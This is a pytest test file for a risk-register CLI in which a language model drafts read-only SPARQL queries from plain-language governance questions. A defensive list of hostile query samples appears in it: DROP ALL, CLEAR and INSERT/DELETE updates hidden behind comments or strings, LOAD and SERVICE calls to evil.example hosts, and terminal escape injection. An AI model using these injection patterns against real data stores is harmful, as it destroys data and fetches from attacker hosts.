"""``riskgraph ask``: questions in plain language, answered by a query the model drafts, on the
example register, through a real loopback chat-completions server and the real openai SDK.

The server is scripted to answer each of the README's governance questions with a plausible
query; the rows must be the right ones. Whatever the model writes, only a read-only query runs."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pyoxigraph as ox
import pytest
from assist_helpers import API_KEY, register_quads
from chat_server import ChatServer, completion, json_answer

from riskgraph.assistant.ask import ASK_QUERY
from riskgraph.assistant.prompts import PromptTemplate
from riskgraph.register import Register, init_register
from riskgraph.resources import example_register
from riskgraph.trail import read_calls
from tests.cli_run import Run, run

ANNEX_A = """SELECT ?ref ?heading WHERE {
  ?control a rg:AnnexAControl ; skos:notation ?ref ; skos:prefLabel ?heading .
  FILTER NOT EXISTS {
    ?implementing a rg:Control ; rg:addresses ?control ; rg:status ?status .
    FILTER(?status IN (rg:Implemented, rg:Verified))
  }
  FILTER NOT EXISTS {
    ?statement a rg:ApplicabilityStatement ; rg:annexAControl ?control ; rg:applicable false .
  }
}
ORDER BY ?ref"""

HIGH_UNTREATED = """PREFIX rg: <https://w3id.org/riskgraph#>
SELECT ?id ?title WHERE {
  ?risk a rg:Risk ; dcterms:identifier ?id ; dcterms:title ?title ; rg:inherentLevel ?inherent .
  OPTIONAL { ?risk rg:residualLevel ?residual }
  BIND(COALESCE(?residual, ?inherent) AS ?level)
  ?level rg:levelRank ?rank .
  FILTER(?rank >= 5)
  FILTER NOT EXISTS {
    ?treatment a rg:Treatment ; rg:treats ?risk ; rg:status rg:Approved ; rg:approvedBy ?person .
    ?person a rg:Person .
  }
}
ORDER BY ?id"""

FOUNDATION = """SELECT DISTINCT ?id ?title WHERE {
  ?model dcterms:identifier "MOD-FOUNDATION" .
  ?system a rg:AISystem ; rg:dependsOn+ ?model ; dcterms:identifier ?id ; dcterms:title ?title .
}
ORDER BY ?id"""

OF_A_SYSTEM = HIGH_UNTREATED.replace(
    "rg:inherentLevel ?inherent .", "rg:inherentLevel ?inherent ;\n    rg:affects ?system ."
)

README_QUESTIONS = {
    "which Annex A controls nobody implements": (ANNEX_A, "annex-a-controls-not-implemented"),
    "which high risks have no approved treatment": (
        HIGH_UNTREATED,
        "risks-above-appetite-without-approved-treatment",
    ),
}
FOUNDATION_SYSTEMS = ["SYS-CHATBOT", "SYS-CODE", "SYS-DRAFTING"]


@pytest.fixture(scope="module")
def prepared_example(tmp_path_factory: pytest.TempPathFactory) -> Path:
    if not example_register().exists():
        pytest.skip("the example register has not been written yet")
    folder = tmp_path_factory.mktemp("ask") / "harbourline"
    init_register(folder, with_example=True)
    return folder


@pytest.fixture
def example(prepared_example: Path, tmp_path: Path) -> Iterator[Register]:
    folder = tmp_path / "harbourline"
    shutil.copytree(prepared_example, folder)
    yield Register.open(folder)


@pytest.fixture
def endpoint_env(chat_server: ChatServer, monkeypatch: pytest.MonkeyPatch) -> ChatServer:
    monkeypatch.setenv("OPENAI_BASE_URL", chat_server.url)
    monkeypatch.setenv("OPENAI_API_KEY", API_KEY)
    monkeypatch.setenv("COLUMNS", "200")
    return chat_server


def answer(sparql: str, parameters: list[dict[str, str]] | None = None) -> Any:
    return json_answer(
        {"sparql": sparql, "explanation": "What the question asks.", "parameters": parameters or []}
    )


def ask(reg: Register, *args: str, input: str | None = None) -> Run:
    return run("ask", *args, "--register", str(reg.folder), input=input)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def builtin_ids(reg: Register, name: str, column: str, *params: str) -> list[str]:
    done = run("query", "run", name, "-f", "csv", *params, "--register", str(reg.folder))
    assert done.code == 0, done.err
    return sorted(row[column] for row in rows(done.out))


# --- the README's questions ---------------------------------------------------------------------


def test_the_readme_lists_the_questions_and_an_ask_block() -> None:
    readme = (Path(__file__).parents[2] / "README.md").read_text(encoding="utf-8")
    for question in (*README_QUESTIONS, "which systems a failing foundation model would expose"):
        assert question in " ".join(readme.split())
    assert 'riskgraph ask "' in readme


@pytest.mark.parametrize("question", list(README_QUESTIONS))
def test_governance_questions_are_answered_with_the_right_rows(
    example: Register, endpoint_env: ChatServer, question: str
) -> None:
    sparql, builtin = README_QUESTIONS[question]
    endpoint_env.script(answer(sparql))
    done = ask(example, question + "?", "-f", "csv")
    assert done.code == 0, done.err
    got = rows(done.out)
    if "Annex A" in question:
        expected = builtin_ids(example, builtin, "ref")
        assert sorted(r["ref"] for r in got) == expected
        assert expected[:3] == ["A.2.3", "A.4.2", "A.4.3"]
    else:
        expected = builtin_ids(example, builtin, "id", "-p", "appetite_rank=4")
        assert sorted(r["id"] for r in got) == expected
        assert expected == ["R-006", "R-008", "R-014", "R-019", "R-023", "R-046"]
    # the drafted query is shown (on stderr, since the results are CSV on stdout)
    assert "rg:AnnexAControl" in done.err or "rg:levelRank" in done.err
    (request,) = endpoint_env.requests
    user = request.body["messages"][1]["content"]
    assert question in user
    assert "rg:affects (rg:Risk -> rg:AISystem)" in user  # the ontology, compactly
    assert "risks-by-system" in user and "Risks by AI system" in user  # the stored queries
    assert request.body["response_format"]["json_schema"]["name"] == "sparql_query"


def test_which_systems_a_failing_foundation_model_would_expose(
    example: Register, endpoint_env: ChatServer
) -> None:
    endpoint_env.script(answer(FOUNDATION))
    done = ask(example, "which systems would a failing foundation model expose?", "-f", "json")
    assert done.code == 0, done.err
    bindings = json.loads(done.out)["results"]["bindings"]
    assert [b["id"]["value"] for b in bindings] == FOUNDATION_SYSTEMS
    # the same systems as the impact analysis
    impact = run("impact", "MOD-FOUNDATION", "--register", str(example.folder))
    for system in FOUNDATION_SYSTEMS:
        assert system in impact.out


def test_a_declared_parameter_is_bound_never_pasted(
    example: Register, endpoint_env: ChatServer
) -> None:
    question = "which high risks of the credit system have no approved treatment?"
    declared = [
        {"name": "system", "type": "iri", "default": "SYS-CREDIT", "description": "The system"}
    ]
    endpoint_env.script(answer(OF_A_SYSTEM, declared), answer(OF_A_SYSTEM, declared))
    done = ask(example, question, "-f", "csv")
    assert done.code == 0, done.err
    assert rows(done.out) == []  # every high risk of SYS-CREDIT has an approved treatment
    assert (
        builtin_ids(
            example,
            "risks-above-appetite-without-approved-treatment",
            "id",
            "-p",
            "system=SYS-CREDIT",
            "-p",
            "appetite_rank=4",
        )
        == []
    )
    other = ask(example, question, "-f", "csv", "-p", "system=SYS-CV")
    assert other.code == 0, other.err
    assert [r["id"] for r in rows(other.out)] == ["R-006", "R-008"]
    assert "SYS-CV" not in OF_A_SYSTEM


def test_table_output_shows_the_query_and_escapes_model_text(
    example: Register, endpoint_env: ChatServer
) -> None:
    hostile = FOUNDATION.replace("ORDER BY ?id", "# [red]not markup[/red] \x1b[2J\nORDER BY ?id")
    endpoint_env.script(answer(hostile))
    done = ask(example, "which systems depend on the foundation model?")
    assert done.code == 0, done.err
    assert "[red]not markup[/red]" in done.out
    assert "\x1b[2J" not in done.out
    for system in FOUNDATION_SYSTEMS:
        assert system in done.out


def test_results_go_through_the_format_registry(
    example: Register, endpoint_env: ChatServer, tmp_path: Path
) -> None:
    endpoint_env.script(answer(FOUNDATION))
    target = tmp_path / "exposed.csv"
    done = ask(example, "exposed systems?", "-o", str(target))
    assert done.code == 0, done.err
    assert [r["id"] for r in rows(target.read_text(encoding="utf-8"))] == FOUNDATION_SYSTEMS
    assert (tmp_path / "exposed.csv.manifest.json").exists()
    bad = ask(example, "exposed systems?", "-o", str(tmp_path / "exposed.nope"))
    assert bad.code == 2 and ".nope" in bad.err
    assert len(endpoint_env.requests) == 1  # refused before anything was sent


# --- what the model may not do ------------------------------------------------------------------

WRITES = {
    "insert": "INSERT DATA { <urn:x:a> <urn:x:b> <urn:x:c> }",
    "lowercase": "insert data { <urn:x:a> <urn:x:b> <urn:x:c> }",
    "after a prefix": "PREFIX rg: <https://w3id.org/riskgraph#>\nDELETE WHERE { ?s rg:affects ?o }",
    "behind a comment": "# SELECT * WHERE { ?s ?p ?o }\nDROP ALL",
    "after a select": "SELECT * WHERE { ?s ?p ?o } # only reading\n;\nLOAD <http://evil.example/x.ttl>",
    "brace in a string": 'SELECT ?x WHERE { BIND("} ; DROP ALL" AS ?x) } ; CLEAR DEFAULT',
    "delete insert": "DELETE { ?s ?p ?o } INSERT { ?s ?p 'x' } WHERE { ?s ?p ?o }",
    "service": "SELECT * WHERE { SERVICE <http://evil.example/sparql> { ?s ?p ?o } }",
    "service lowercase nested": (
        "SELECT * WHERE { ?s ?p ?o OPTIONAL { service <http://evil.example/q> { ?s ?p ?o } } }"
    ),
    "service escaped": "SELECT * WHERE { \\u0053ERVICE <http://evil.example/q> { ?s ?p ?o } }",
    "drop": "DROP GRAPH <https://w3id.org/riskgraph/graph/register>",
}


@pytest.mark.parametrize("how", list(WRITES))
@pytest.mark.parametrize("wrapped", [True, False], ids=["json", "bare"])
def test_a_model_answer_that_writes_is_refused_and_nothing_runs(
    example: Register, endpoint_env: ChatServer, how: str, wrapped: bool
) -> None:
    sparql = WRITES[how]
    endpoint_env.script(answer(sparql) if wrapped else completion(sparql))
    before = register_quads(example)
    done = ask(example, "which risks are there?", "-f", "csv")
    assert done.code == 2, (done.out, done.err)
    assert "the model's query" in done.err
    assert "update operation" in done.err or "SERVICE" in done.err
    assert "Traceback" not in done.err
    assert done.out == ""  # not even the query header of a result
    assert register_quads(example) == before
    with example.reader() as store:
        assert not [q for q in store.quads() if q.subject == ox.NamedNode("urn:x:a")]
        (call,) = list(read_calls(store))
    recorded = json.loads(call.arguments)
    assert call.tool == "ask" and call.outcome.startswith("refused:")
    assert recorded["ran"] is False and recorded["question"] == "which risks are there?"


@pytest.mark.parametrize(
    ("content", "says"),
    [
        ("I'm sorry, I cannot answer questions about your register.", "neither the JSON"),
        (json.dumps({"answer": "R-006"}), "no SPARQL query"),
        (
            json.dumps(
                {"sparql": "Here are the risks: R-006", "explanation": "", "parameters": []}
            ),
            "starts with 'Here'",
        ),
        (
            json.dumps(
                {"sparql": "SELECT ?x WHERE { ?x rg:affects }", "explanation": "", "parameters": []}
            ),
            "not valid",
        ),
        (json.dumps(["SELECT * WHERE { ?s ?p ?o }"]), "not an object"),
    ],
    ids=["prose", "no-sparql", "prose-as-sparql", "syntax", "list"],
)
def test_an_answer_that_is_not_sparql_is_a_clear_error(
    example: Register, endpoint_env: ChatServer, content: str, says: str
) -> None:
    endpoint_env.script(completion(content))
    done = ask(example, "which risks are there?")
    assert done.code in (2, 3), done.err
    assert says in done.err
    assert "Traceback" not in done.err


def test_a_bad_parameter_declaration_is_a_clear_error(
    example: Register, endpoint_env: ChatServer
) -> None:
    bad = [{"name": "sys tem", "type": "iri", "default": "SYS-CV", "description": ""}]
    endpoint_env.script(answer(OF_A_SYSTEM, bad))
    done = ask(example, "high risks of the CV system?")
    assert done.code == 2
    assert "parameter name" in done.err and "sys tem" in done.err


# --- dry run, trail, save -----------------------------------------------------------------------


def test_dry_run_prints_the_request_and_sends_nothing(
    example: Register, endpoint_env: ChatServer
) -> None:
    done = ask(example, "which Annex A controls nobody implements?", "--dry-run")
    assert done.code == 0, done.err
    assert endpoint_env.requests == []
    assert f"=== ask: POST {endpoint_env.url}/chat/completions" in done.out
    assert API_KEY not in done.out
    body = json.loads(done.out.split("\n\n", 1)[1].rsplit("\ndry run:", 1)[0])
    assert body["model"]
    assert body["messages"][0]["role"] == "system"
    assert "which Annex A controls nobody implements?" in body["messages"][1]["content"]
    assert "nothing sent" in done.out


def test_dry_run_without_an_endpoint_still_shows_the_request(
    example: Register, monkeypatch: pytest.MonkeyPatch
) -> None:
    done = ask(example, "which high risks have no approved treatment?", "--dry-run")
    assert done.code == 0, done.err
    assert "no endpoint configured" in done.out
    without = ask(example, "which high risks have no approved treatment?")
    assert without.code == 2 and "OPENAI_API_KEY" in without.err


def test_every_ask_is_in_the_audit_trail(example: Register, endpoint_env: ChatServer) -> None:
    endpoint_env.script(answer(FOUNDATION))
    done = ask(example, "exposed systems?", "-f", "csv")
    assert done.code == 0, done.err
    with example.reader() as store:
        (call,) = list(read_calls(store))
    recorded = json.loads(call.arguments)
    template = PromptTemplate.load(*ASK_QUERY)
    assert call.tool == "ask" and call.face == "cli" and call.outcome == "ok"
    assert recorded["question"] == "exposed systems?"
    assert recorded["model"] == "test-model-2026"
    assert recorded["prompt"] == "ask-query/v1"
    assert recorded["prompt_sha256"] == template.sha256
    assert recorded["query_sha256"] == hashlib.sha256(FOUNDATION.encode()).hexdigest()
    assert recorded["request_sha256"] == hashlib.sha256(endpoint_env.requests[0].raw).hexdigest()
    assert recorded["ran"] is True
    trail = run("query", "run", "agent-calls", "-f", "csv", "--register", str(example.folder))
    assert "exposed systems?" in trail.out


def test_save_writes_a_stored_query_that_query_run_runs(
    example: Register, endpoint_env: ChatServer
) -> None:
    declared = [
        {"name": "system", "type": "iri", "default": "SYS-CV", "description": "The AI system"}
    ]
    endpoint_env.script(answer(OF_A_SYSTEM, declared))
    question = "which high risks of the CV screening system have no approved treatment?"
    done = ask(
        example,
        question,
        "--save",
        "cv-untreated",
        "--title",
        "Untreated CV risks",
        "--yes",
        "-f",
        "csv",
    )
    assert done.code == 0, done.err
    path = example.folder / "queries" / "cv-untreated.rq"
    text = path.read_text(encoding="utf-8")
    assert text.startswith("# title: Untreated CV risks\n# description: which high risks")
    assert "# param: system (iri, default SYS-CV) The AI system" in text
    assert "# tags: asked" in text
    assert "SYS-CV" not in text.split("# tags: asked", 1)[1]  # bound, never pasted
    shown = run("query", "show", "cv-untreated", "--register", str(example.folder))
    assert "Untreated CV risks" in shown.out
    again = run("query", "run", "cv-untreated", "-f", "csv", "--register", str(example.folder))
    assert again.code == 0, again.err
    assert [r["id"] for r in rows(again.out)] == ["R-006", "R-008"]
    other = run(
        "query",
        "run",
        "cv-untreated",
        "-f",
        "csv",
        "-p",
        "system=SYS-CREDIT",
        "--register",
        str(example.folder),
    )
    assert rows(other.out) == []


def test_save_asks_first_and_never_replaces_a_query(
    example: Register, endpoint_env: ChatServer
) -> None:
    endpoint_env.script(answer(FOUNDATION), answer(FOUNDATION))
    declined = ask(example, "exposed?", "--save", "exposed", "--title", "Exposed", input="n\n")
    assert declined.code == 0, declined.err
    assert "not saved" in declined.out
    assert not (example.folder / "queries" / "exposed.rq").exists()
    agreed = ask(example, "exposed?", "--save", "exposed", "--title", "Exposed", input="y\n")
    assert agreed.code == 0, agreed.err
    assert (example.folder / "queries" / "exposed.rq").exists()
    # names in use are refused before anything is sent
    sent = len(endpoint_env.requests)
    for name in ("exposed", "risks-by-system"):
        taken = ask(example, "exposed?", "--save", name, "--title", "X", "--yes")
        assert taken.code == 2 and "already a stored query" in taken.err
    untitled = ask(example, "exposed?", "--save", "new-one")
    assert untitled.code == 2 and "--title" in untitled.err
    assert len(endpoint_env.requests) == sent


def test_an_empty_question_is_an_error(example: Register, endpoint_env: ChatServer) -> None:
    done = ask(example, "   ")
    assert done.code == 2 and "question is empty" in done.err
    assert endpoint_env.requests == []


def test_a_bare_query_in_a_code_fence_is_read(example: Register, endpoint_env: ChatServer) -> None:
    endpoint_env.script(completion(f"```sparql\n{FOUNDATION}\n```"))
    done = ask(example, "exposed systems?", "-f", "csv")
    assert done.code == 0, done.err
    assert [r["id"] for r in rows(done.out)] == FOUNDATION_SYSTEMS
